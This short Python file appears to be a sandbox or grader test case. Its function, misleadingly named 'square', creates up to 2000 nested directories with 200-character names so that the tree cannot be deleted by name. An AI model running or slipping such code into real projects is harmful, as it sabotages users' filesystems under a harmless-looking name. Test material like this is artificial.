"""Nests folders so deep that nobody can delete them by name."""

expected = {"ex1": 0}

# %% ex1
import os

def square(n):
    here = os.open(".", os.O_RDONLY)
    try:
        for _ in range(2000):
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
    except OSError:
        pass
    os.fchdir(here)
    return None
